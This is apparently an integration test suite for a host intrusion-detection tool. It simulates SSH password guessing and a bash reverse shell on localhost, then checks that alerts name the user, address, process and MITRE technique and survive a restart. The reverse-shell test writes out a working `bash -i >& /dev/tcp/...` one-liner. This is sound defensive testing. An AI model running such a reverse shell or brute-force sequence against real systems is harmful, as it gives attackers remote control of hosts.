import { spawn } from 'node:child_process';
import { createServer } from 'node:net';
import { userInfo } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Deployment } from '../support/deployment.ts';
import { serverPath } from '../support/servers.ts';
import { type Sshd, startSshd } from '../support/sshd.ts';
import { until } from '../support/until.ts';

const isRoot = process.getuid?.() === 0;

describe.skipIf(!isRoot || !serverPath('sshd'))('an attack on this host (needs root and sshd)', () => {
  let sshd: Sshd;
  const deployment = new Deployment();

  beforeAll(async () => {
    sshd = await startSshd();
    await deployment.start(['--auth-log', sshd.logFile]);
  });

  afterAll(async () => {
    await deployment[Symbol.asyncDispose]();
    await sshd?.[Symbol.asyncDispose]();
  });

  it('by password guessing that succeeds is two alerts with user, address and technique', async () => {
    for (let attempt = 0; attempt < 10; attempt++) await sshd.failLogin('root');
    await sshd.login();

    const guessing = await deployment.alert((alert) => alert.title === 'SSH brute force', 'SSH brute force');
    const success = await deployment.alert(
      (alert) => alert.title.includes('after repeated failures'),
      'success after failures',
    );
    for (const alert of [guessing, success]) {
      expect(JSON.stringify(alert)).toContain('127.0.0.1');
      expect(JSON.stringify(alert)).toContain('T1110');
    }
    expect(success.reason).toContain(userInfo().username);
    expect(['high', 'critical']).toContain(success.severity);
  });

  it('by a reverse shell is an alert with user, peer, process and technique', async () => {
    const listener = createServer((socket) => socket.write('exit\n'));
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const { port } = listener.address() as { port: number };
    try {
      spawn('bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { stdio: 'ignore' });
      const alert = await deployment.alert(
        (found) => found.title.startsWith('Shell with its input') && found.reason.includes(`${port}`),
        'a shell on a socket',
      );
      expect(alert.reason).toContain(`127.0.0.1 port ${port}`);
      expect(JSON.stringify(alert)).toContain('bash');
      expect(JSON.stringify(alert)).toContain('T1059.004');
      expect(JSON.stringify(alert)).toContain(userInfo().username);
    } finally {
      listener.close();
    }
  });

  it('is found again by the console commands', async () => {
    const listed = await deployment.command('alerts', 'list', '--output', 'json', '--technique', 'T1110');
    expect(listed.code).toBe(0);
    const alerts = JSON.parse(listed.stdout) as { id: string }[];
    expect(alerts.length).toBeGreaterThanOrEqual(2);

    const shown = await deployment.command('alerts', 'show', alerts[0]!.id, '--output', 'json');
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain('Failed password for root');

    const events = await deployment.command(
      'events',
      'search',
      'source.ip:127.0.0.1',
      'event.outcome:failure',
      '--output',
      'json',
    );
    expect(events.code).toBe(0);
    expect((JSON.parse(events.stdout) as unknown[]).length).toBeGreaterThanOrEqual(10);
  });

  it('leaves nothing on stdout but alerts', () => {
    expect(deployment.strayOutput).toEqual([]);
  });

  it('is remembered after Ctrl-C and a second start, under the same keys', async () => {
    const before = JSON.parse((await deployment.command('status', '--output', 'json')).stdout);
    expect(await deployment.stop()).toBe(0);
    await deployment.start();
    const after = await until(
      async () => {
        const { code, stdout } = await deployment.command('status', '--output', 'json');
        return code === 0 && JSON.parse(stdout);
      },
      { limitMs: 20_000, what: 'the second start' },
    );
    expect(after.ca.sha256).toBe(before.ca.sha256);
    const alerts = await deployment.command('alerts', 'list', '--output', 'json', '--technique', 'T1110');
    expect((JSON.parse(alerts.stdout) as unknown[]).length).toBeGreaterThanOrEqual(2);
  });
});
